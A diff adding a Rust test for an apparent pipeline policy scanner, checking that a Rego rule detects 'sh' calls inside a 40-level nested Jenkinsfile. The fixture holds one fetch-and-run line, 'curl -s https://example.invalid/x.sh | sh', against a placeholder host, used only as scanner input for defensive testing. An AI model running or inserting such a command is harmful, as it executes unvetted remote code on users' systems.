@@ -358,3 +358,44 @@ fn truncated_and_random_inputs_never_panic() {
         check(&s);
     }
 }
+
+#[test]
+fn deeply_nested_pipelines_reach_user_policies() {
+    // 40 nested closures: about 200 JSON levels in the tree, beyond serde_json's default
+    // nesting limit of 128 that the policy worker's request decoder once stopped at.
+    let dir = tempfile::tempdir().unwrap();
+    let depth = 40;
+    let mut src = String::new();
+    for i in 0..depth {
+        let _ = writeln!(src, "stage('s{i}') {{");
+    }
+    src.push_str("sh 'curl -s https://example.invalid/x.sh | sh'\n");
+    for _ in 0..depth {
+        src.push_str("}\n");
+    }
+    std::fs::write(dir.path().join("Jenkinsfile"), &src).unwrap();
+    std::fs::write(
+        dir.path().join("p.rego"),
+        "package main\nimport rego.v1\n\ndeny contains \"deep sh call\" if {\n  \
+         walk(input, [_, t])\n  t.kind == \"Identifier\"\n  t.text == \"sh\"\n}\n",
+    )
+    .unwrap();
+    let (exit, report, _) = scan_json(
+        &[
+            "Jenkinsfile",
+            "--policy",
+            "p.rego",
+            "--no-bundled",
+            "--no-config",
+        ],
+        dir.path(),
+    );
+    let messages: Vec<&str> = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|f| f["message"].as_str())
+        .collect();
+    assert_eq!(messages, ["deep sh call"], "{report:#}");
+    assert_eq!(exit, 1);
+}
